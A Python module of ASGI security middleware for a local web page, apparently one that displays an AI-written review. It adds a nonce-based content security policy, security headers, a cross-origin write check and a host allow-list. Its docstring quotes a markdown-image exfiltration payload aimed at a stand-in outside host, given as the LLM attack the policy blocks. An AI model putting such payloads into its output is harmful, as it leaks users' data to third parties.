"""What stands between the page and the outside: which hosts may ask, and what a browser may do.

References
----------
W3C, *Content Security Policy Level 3* (nonces); OWASP Top 10 for LLM Applications 2025, LLM02 and
LLM05: a review that holds ``![x](http://elsewhere/?d=...)`` must not make a browser send anything.
"""

from __future__ import annotations

import ipaddress
import secrets
import socket
from typing import TYPE_CHECKING, Final
from urllib.parse import urlsplit

from starlette.datastructures import Headers, MutableHeaders
from starlette.responses import PlainTextResponse

if TYPE_CHECKING:
    from starlette.types import ASGIApp, Message, Receive, Scope, Send

LOOPBACK: Final = ("127.0.0.1", "localhost", "::1")
"""Hosts a page without a login may be asked for."""

PAGE: Final = "/"
"""Path of the page, the only answer whose inline scripts may run."""

_POLICY: Final = {
    "default-src": "'none'",
    "img-src": "'self' data: blob:",
    "media-src": "'self' blob:",
    "connect-src": "'self'",
    "font-src": "'self' data:",
    "style-src": "'self' 'unsafe-inline'",
    "worker-src": "'self' blob:",
    "manifest-src": "'self'",
    "base-uri": "'self'",
    "form-action": "'self'",
    "frame-src": "'none'",
    "frame-ancestors": "'none'",
    "object-src": "'none'",
}
_HEADERS: Final = {
    "X-Content-Type-Options": "nosniff",
    "X-Frame-Options": "DENY",
    "Referrer-Policy": "no-referrer",
    "Cross-Origin-Opener-Policy": "same-origin",
    "Cross-Origin-Resource-Policy": "same-origin",
    "Permissions-Policy": "camera=(), geolocation=(), microphone=()",
}
_READS: Final = ("GET", "HEAD", "OPTIONS")


class Guard:
    """ASGI middleware: answers carry a policy, and foreign origins may not write.

    Inline scripts of the page itself get a fresh nonce with every answer, so a script that came in
    with data stays dead even where escaping was forgotten.
    """

    def __init__(self, app: ASGIApp) -> None:
        self._app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self._app(scope, receive, send)
            return
        if scope["method"] not in _READS and _is_foreign(Headers(scope=scope)):
            refusal = PlainTextResponse("this page takes no requests from other sites", 403)
            await refusal(scope, receive, send)
            return
        guarded = _GuardedSend(send, is_page=scope["path"] == PAGE)
        await self._app(_without_compression(scope), receive, guarded)


class _GuardedSend:
    """Sends an answer on with its headers; holds an HTML page back until its scripts are marked."""

    def __init__(self, send: Send, *, is_page: bool) -> None:
        self._send = send
        self._is_page = is_page
        self._nonce = secrets.token_urlsafe(16)
        self._start: Message | None = None
        self._body = bytearray()

    async def __call__(self, message: Message) -> None:
        if message["type"] == "http.response.start":
            headers = MutableHeaders(scope=message)
            headers.update(_HEADERS)
            headers["Content-Security-Policy"] = content_policy(self._nonce)
            if self._is_page and headers.get("content-type", "").startswith("text/html"):
                self._start = message
                return
        elif self._start is not None:
            self._body += message.get("body", b"")
            if not message.get("more_body", False):
                await self._send_page(self._start)
            return
        await self._send(message)

    async def _send_page(self, start: Message) -> None:
        body = bytes(self._body).replace(b"<script", f'<script nonce="{self._nonce}"'.encode())
        MutableHeaders(scope=start)["content-length"] = str(len(body))
        await self._send(start)
        await self._send({"type": "http.response.body", "body": body})


def content_policy(nonce: str) -> str:
    """Write the policy: everything from here, nothing from or to anywhere else.

    ``unsafe-eval`` is what Gradio's HTML component needs to fill its template.
    """
    scripts = f"'self' 'unsafe-eval' 'nonce-{nonce}'"
    return "; ".join(
        f"{name} {value}" for name, value in {**_POLICY, "script-src": scripts}.items()
    )


def known_hosts(host: str, others: str) -> list[str]:
    """List the names under which the page may be asked for; a rebound name is none of them.

    Parameters
    ----------
    host
        Address that the page listens on.
    others
        More names, with commas between them.
    """
    named = [name.strip() for name in others.split(",") if name.strip()]
    own = [] if is_loopback(host) else [host, socket.gethostname()]
    return [*dict.fromkeys([*LOOPBACK, *own, *named])]


def is_loopback(host: str) -> bool:
    """Tell whether only this machine reaches a host; names but localhost count as outside."""
    if host == "localhost":
        return True
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


def _is_foreign(headers: Headers) -> bool:
    """Whether a browser says that another site sent this; programs send no Origin."""
    origin = headers.get("origin")
    return origin is not None and urlsplit(origin).netloc != headers.get("host")


def _without_compression(scope: Scope) -> Scope:
    """Ask for the page as it is: a compressed page could not be marked."""
    if scope["path"] != PAGE:
        return scope
    kept = [(name, value) for name, value in scope["headers"] if name != b"accept-encoding"]
    return {**scope, "headers": kept}
